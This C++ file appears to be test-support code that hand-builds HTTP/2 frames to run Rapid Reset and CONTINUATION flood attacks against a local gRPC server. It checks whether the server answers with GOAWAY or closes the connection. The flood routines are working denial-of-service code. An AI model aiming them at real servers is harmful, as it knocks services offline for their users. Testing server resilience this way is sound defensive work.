#include "support/http2_flood.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdint>
#include <cstring>
#include <string>
#include <utility>

#include "absl/strings/str_cat.h"
#include "absl/synchronization/mutex.h"

namespace ndes::testing {
namespace {

enum FrameType : std::uint8_t {
  kData = 0,
  kHeaders = 1,
  kRstStream = 3,
  kSettings = 4,
  kGoaway = 7,
  kContinuation = 9,
};
constexpr std::uint8_t kEndStream = 0x1;
constexpr std::uint8_t kAck = 0x1;
constexpr std::uint8_t kEndHeaders = 0x4;
constexpr std::uint32_t kCancel = 8;
constexpr std::size_t kFrameHeaderSize = 9;
// CONTINUATION frames stay well under gRPC's default metadata limit
// (8 KiB), which gRPC 1.51 checks per frame rather than per header block.
constexpr std::size_t kContinuationPayload = 4000;
constexpr std::size_t kStreamsPerWrite = 256;

void AppendUint32(std::string& out, std::uint32_t value) {
  out.push_back(static_cast<char>(value >> 24));
  out.push_back(static_cast<char>(value >> 16));
  out.push_back(static_cast<char>(value >> 8));
  out.push_back(static_cast<char>(value));
}

void AppendFrame(std::string& out, FrameType type, std::uint8_t flags,
                 std::uint32_t stream, absl::string_view payload) {
  const auto length = static_cast<std::uint32_t>(payload.size());
  out.push_back(static_cast<char>(length >> 16));
  out.push_back(static_cast<char>(length >> 8));
  out.push_back(static_cast<char>(length));
  out.push_back(static_cast<char>(type));
  out.push_back(static_cast<char>(flags));
  AppendUint32(out, stream & 0x7fffffffu);
  out.append(payload.data(), payload.size());
}

// An HPACK integer with a `prefix_bits` prefix (RFC 7541 section 5.1).
void AppendHpackInteger(std::string& out, std::size_t value, int prefix_bits) {
  const std::size_t max_prefix = (std::size_t{1} << prefix_bits) - 1;
  if (value < max_prefix) {
    out.push_back(static_cast<char>(value));
    return;
  }
  out.push_back(static_cast<char>(max_prefix));
  value -= max_prefix;
  while (value >= 128) {
    out.push_back(static_cast<char>((value & 0x7f) | 0x80));
    value >>= 7;
  }
  out.push_back(static_cast<char>(value));
}

// A literal header field without indexing, new name, no Huffman coding: the
// server's table never changes, so every block can be sent as it is.
void AppendLiteralHeader(std::string& out, absl::string_view name,
                         absl::string_view value) {
  out.push_back('\0');
  AppendHpackInteger(out, name.size(), 7);
  out.append(name.data(), name.size());
  AppendHpackInteger(out, value.size(), 7);
  out.append(value.data(), value.size());
}

std::string RequestHeaderBlock(absl::string_view path) {
  std::string block;
  AppendLiteralHeader(block, ":method", "POST");
  AppendLiteralHeader(block, ":scheme", "http");
  AppendLiteralHeader(block, ":path", path);
  AppendLiteralHeader(block, ":authority", "localhost");
  AppendLiteralHeader(block, "content-type", "application/grpc");
  AppendLiteralHeader(block, "te", "trailers");
  return block;
}

// A gRPC length-prefixed message, uncompressed.
std::string GrpcFrame(absl::string_view message) {
  std::string framed(1, '\0');
  AppendUint32(framed, static_cast<std::uint32_t>(message.size()));
  framed.append(message.data(), message.size());
  return framed;
}

}  // namespace

struct Http2FloodConnection::Shared {
  absl::Mutex mu;
  bool goaway ABSL_GUARDED_BY(mu) = false;
  bool closed ABSL_GUARDED_BY(mu) = false;
};

absl::StatusOr<Http2FloodConnection> Http2FloodConnection::Connect(int port) {
  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return absl::InternalError(std::strerror(errno));
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<std::uint16_t>(port));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof(address)) !=
      0) {
    const int error = errno;
    close(fd);
    return absl::UnavailableError(absl::StrCat("connect to 127.0.0.1:", port,
                                               ": ", std::strerror(error)));
  }
  Http2FloodConnection connection(fd);
  std::string preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  AppendFrame(preface, kSettings, 0, 0, "");
  AppendFrame(preface, kSettings, kAck, 0, "");
  bool timed_out = false;
  if (!connection.Write(preface, absl::Now() + absl::Seconds(5), &timed_out)) {
    return absl::UnavailableError("the server closed the connection at once");
  }
  return connection;
}

Http2FloodConnection::Http2FloodConnection(int fd)
    : fd_(fd), shared_(std::make_shared<Shared>()) {
  reader_ = std::thread([fd, shared = shared_] {
    // Drops everything but notes GOAWAY frames: a frame header is parsed
    // whenever one is complete.
    std::string pending;
    char chunk[64 * 1024];
    while (true) {
      const ssize_t got = recv(fd, chunk, sizeof(chunk), 0);
      if (got < 0 && errno == EINTR) continue;
      if (got <= 0) break;
      pending.append(chunk, static_cast<std::size_t>(got));
      std::size_t at = 0;
      while (pending.size() - at >= kFrameHeaderSize) {
        const auto* header =
            reinterpret_cast<const unsigned char*>(pending.data() + at);
        const std::size_t length = (std::size_t{header[0]} << 16) |
                                   (std::size_t{header[1]} << 8) | header[2];
        if (header[3] == kGoaway) {
          absl::MutexLock lock(&shared->mu);
          shared->goaway = true;
        }
        if (pending.size() - at < kFrameHeaderSize + length) break;
        at += kFrameHeaderSize + length;
      }
      pending.erase(0, at);
    }
    absl::MutexLock lock(&shared->mu);
    shared->closed = true;
  });
}

Http2FloodConnection::Http2FloodConnection(
    Http2FloodConnection&& other) noexcept
    : fd_(std::exchange(other.fd_, -1)),
      next_stream_(other.next_stream_),
      shared_(std::move(other.shared_)),
      reader_(std::move(other.reader_)) {}

Http2FloodConnection::~Http2FloodConnection() {
  if (fd_ < 0) return;
  shutdown(fd_, SHUT_RDWR);
  if (reader_.joinable()) reader_.join();
  close(fd_);
}

bool Http2FloodConnection::Write(absl::string_view bytes, absl::Time deadline,
                                 bool* timed_out) {
  while (!bytes.empty()) {
    // A server that shuts the connection down may leave it writable until
    // its buffers fill: its end of stream is what tells.
    if (closed_by_server()) return false;
    const absl::Duration left = deadline - absl::Now();
    if (left <= absl::ZeroDuration()) {
      *timed_out = true;
      return false;
    }
    pollfd ready{fd_, POLLOUT, 0};
    const int polled = poll(&ready, 1,
                            static_cast<int>(std::min<int64_t>(
                                absl::ToInt64Milliseconds(left) + 1, 1000)));
    if (polled < 0 && errno != EINTR) return false;
    if (polled <= 0) continue;
    const ssize_t sent =
        send(fd_, bytes.data(), bytes.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
    if (sent < 0) {
      if (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR) continue;
      return false;
    }
    bytes.remove_prefix(static_cast<std::size_t>(sent));
  }
  return true;
}

Http2FloodResult Http2FloodConnection::RapidReset(absl::string_view path,
                                                  absl::string_view message,
                                                  std::size_t streams,
                                                  absl::Duration time_limit) {
  const absl::Time deadline = absl::Now() + time_limit;
  const std::string headers = RequestHeaderBlock(path);
  const std::string data = GrpcFrame(message);
  std::string cancel;
  AppendUint32(cancel, kCancel);
  Http2FloodResult result;
  std::uint32_t stream = 1;
  std::string batch;
  while (result.sent < streams) {
    batch.clear();
    const std::size_t count = std::min(kStreamsPerWrite, streams - result.sent);
    for (std::size_t i = 0; i < count; ++i, stream += 2) {
      AppendFrame(batch, kHeaders, kEndHeaders, stream, headers);
      AppendFrame(batch, kData, kEndStream, stream, data);
      AppendFrame(batch, kRstStream, 0, stream, cancel);
    }
    if (!Write(batch, deadline, &result.timed_out)) {
      result.closed = !result.timed_out;
      break;
    }
    result.sent += count;
  }
  return result;
}

Http2FloodResult Http2FloodConnection::ContinuationFlood(
    absl::string_view path, std::size_t bytes, absl::Duration time_limit) {
  const absl::Time deadline = absl::Now() + time_limit;
  Http2FloodResult result;
  std::string frames;
  AppendFrame(frames, kHeaders, 0, 1, RequestHeaderBlock(path));
  if (!Write(frames, deadline, &result.timed_out)) {
    result.closed = !result.timed_out;
    return result;
  }
  // Distinct small headers, so that nothing can be folded together.
  std::size_t header = 0;
  const std::string value(100, 'v');
  std::string block;
  while (result.sent < bytes) {
    block.clear();
    while (block.size() + 128 < kContinuationPayload) {
      AppendLiteralHeader(block, absl::StrCat("x-h", header++), value);
    }
    frames.clear();
    AppendFrame(frames, kContinuation, 0, 1, block);
    if (!Write(frames, deadline, &result.timed_out)) {
      result.closed = !result.timed_out;
      break;
    }
    result.sent += block.size();
  }
  return result;
}

bool Http2FloodConnection::SendRequest(
    absl::string_view path, absl::string_view message,
    const std::vector<std::pair<std::string, std::string>>& extra_headers) {
  std::string headers = RequestHeaderBlock(path);
  for (const auto& [name, value] : extra_headers) {
    AppendLiteralHeader(headers, name, value);
  }
  std::string frames;
  AppendFrame(frames, kHeaders, kEndHeaders, next_stream_, headers);
  AppendFrame(frames, kData, kEndStream, next_stream_, GrpcFrame(message));
  next_stream_ += 2;
  bool timed_out = false;
  return Write(frames, absl::Now() + absl::Seconds(10), &timed_out);
}

bool Http2FloodConnection::goaway_received() const {
  absl::MutexLock lock(&shared_->mu);
  return shared_->goaway;
}

bool Http2FloodConnection::closed_by_server() const {
  absl::MutexLock lock(&shared_->mu);
  return shared_->closed;
}

bool Http2FloodConnection::WaitForClose(absl::Duration timeout) {
  absl::MutexLock lock(&shared_->mu);
  return shared_->mu.AwaitWithTimeout(
      absl::Condition(
          +[](Shared* shared)
               ABSL_NO_THREAD_SAFETY_ANALYSIS { return shared->closed; },
          shared_.get()),
      timeout);
}

}  // namespace ndes::testing
